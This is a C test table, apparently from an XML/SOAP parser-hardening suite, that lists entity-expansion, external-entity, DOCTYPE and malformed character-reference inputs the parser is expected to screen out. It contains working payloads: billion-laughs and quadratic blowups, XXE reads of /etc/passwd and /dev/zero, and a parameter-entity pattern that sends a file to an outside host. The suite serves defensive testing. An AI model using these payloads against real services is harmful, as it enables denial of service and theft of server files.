// SPDX-License-Identifier: GPL-2.0
/* Document types and what they declare; character references. */
#include "attack.h"
#include "names.h"

#define DTD(c, v, txt)                                                                          \
	{                                                                                       \
		.class = c, .variant = v, .security = FMP_SECURITY_BC, .step = FMP_STEP_SCREEN, \
		.kind = FMP_EVENT_DTD, .text = txt                                              \
	}
#define PARSED(c, v, txt)                                                                      \
	{                                                                                      \
		.class = c, .variant = v, .security = FMP_SECURITY_BC, .step = FMP_STEP_PARSE, \
		.kind = FMP_EVENT_WELLFORMED, .text = txt                                      \
	}
#define SCREENED(c, v, txt)                                                                     \
	{                                                                                       \
		.class = c, .variant = v, .security = FMP_SECURITY_BC, .step = FMP_STEP_SCREEN, \
		.kind = FMP_EVENT_WELLFORMED, .text = txt                                       \
	}
#define DOCTYPE(x) DECLARATION "<!DOCTYPE soapenv:Envelope [" x "]>"
#define TEN(x)	   x x x x x x x x x x
#define USES(x)	   MESSAGE(ORDER_OPEN "<orderId>" x "</orderId>" ORDER_REST)

static const struct attack rows[] = {
	DTD("entity expansion", "billion laughs",
	    DOCTYPE("<!ENTITY a 'ha'><!ENTITY b '" TEN("&a;") "'><!ENTITY c '" TEN(
		    "&b;") "'>"
			   "<!ENTITY d '" TEN("&c;") "'><!ENTITY e '" TEN("&d;") "'><!ENTITY f '" TEN("&e;") "'><!ENTITY g '" TEN(
				   "&f;") "'><!ENTITY h '" TEN("&g;") "'><!ENTITY i '" TEN("&h;") "'>")
		    USES("&i;")),
	{ .class = "entity expansion",
	  .variant = "quadratic",
	  .security = FMP_SECURITY_BC,
	  .step = FMP_STEP_SCREEN,
	  .kind = FMP_EVENT_DTD,
	  .text = DOCTYPE("<!ENTITY a '@*'>") USES("@/"),
	  .piece = "aaaaaaaaaa",
	  .close = "&a;",
	  .n = 30000 },
	DTD("entity expansion", "in an attribute",
	    DOCTYPE("<!ENTITY a 'x'>") MESSAGE("<a b='&a;'/>")),
	DTD("entity expansion", "a loop",
	    DOCTYPE("<!ENTITY a '&b;'><!ENTITY b '&a;'>") USES("&a;")),
	DTD("entity expansion", "by parameter entities",
	    DOCTYPE("<!ENTITY % a '&#37;b;&#37;b;'><!ENTITY % b 'x'>%a;") USES("1")),
	SCREENED("entity expansion", "never declared", USES("&a;")),
	SCREENED("entity expansion", "never declared, in an attribute", MESSAGE("<a b='&a;'/>")),
	SCREENED("entity expansion", "of HTML", USES("&nbsp;")),
	DTD("external entity", "a file",
	    DOCTYPE("<!ENTITY a SYSTEM 'file:///etc/passwd'>") USES("&a;")),
	DTD("external entity", "another host",
	    DOCTYPE("<!ENTITY a SYSTEM 'http://192.0.2.1/a'>") USES("&a;")),
	DTD("external entity", "a device without an end",
	    DOCTYPE("<!ENTITY a SYSTEM '/dev/zero'>") USES("&a;")),
	DTD("external entity", "a parameter entity that sends a file away",
	    DOCTYPE("<!ENTITY % f SYSTEM 'file:///etc/hostname'>"
		    "<!ENTITY % d SYSTEM 'http://192.0.2.1/d'>%d;%s;") USES("1")),
	DTD("external entity", "by PUBLIC",
	    DOCTYPE("<!ENTITY a PUBLIC 'x' 'http://192.0.2.1/a'>") USES("&a;")),
	DTD("external entity", "never parsed",
	    DOCTYPE("<!NOTATION n SYSTEM 'x'><!ENTITY a SYSTEM 'x' NDATA n>") USES("1")),
	DTD("document type", "empty", "<!DOCTYPE a>" MESSAGE(ORDER)),
	DTD("document type", "external",
	    "<!DOCTYPE a SYSTEM 'http://192.0.2.1/x.dtd'>" MESSAGE(ORDER)),
	DTD("document type", "attributes that nobody wrote",
	    DOCTYPE("<!ATTLIST submitOrder xml:id ID #FIXED 'body'>") MESSAGE(ORDER)),
	DTD("document type", "behind a comment",
	    "<!-- --><!DOCTYPE a [<!ENTITY b 'c'>]>" MESSAGE(ORDER)),
	DTD("document type", "inside the Body", MESSAGE("<!DOCTYPE a>")),
	DTD("document type", "in small letters", "<!doctype a>" MESSAGE(ORDER)),
	DTD("document type", "a conditional section", MESSAGE("<![INCLUDE[<a/>]]>")),
	{ .class = "document type",
	  .variant = "in UTF-16",
	  .security = FMP_SECURITY_BC,
	  .step = FMP_STEP_SCREEN,
	  .kind = FMP_EVENT_DTD,
	  .form = ATTACK_UTF16LE_MARK,
	  .text = "<!DOCTYPE a [<!ENTITY b 'c'>]>" MESSAGE(ORDER) },
	PARSED("character references", "NUL", USES("&#0;")),
	PARSED("character references", "a surrogate", USES("&#xD800;")),
	PARSED("character references", "behind Unicode", USES("&#x110000;")),
	PARSED("character references", "a number that overflows", USES("&#4294967345;")),
	PARSED("character references", "a control character", USES("&#1;")),
};

const struct attack_table attack_entities = ROWS(rows);
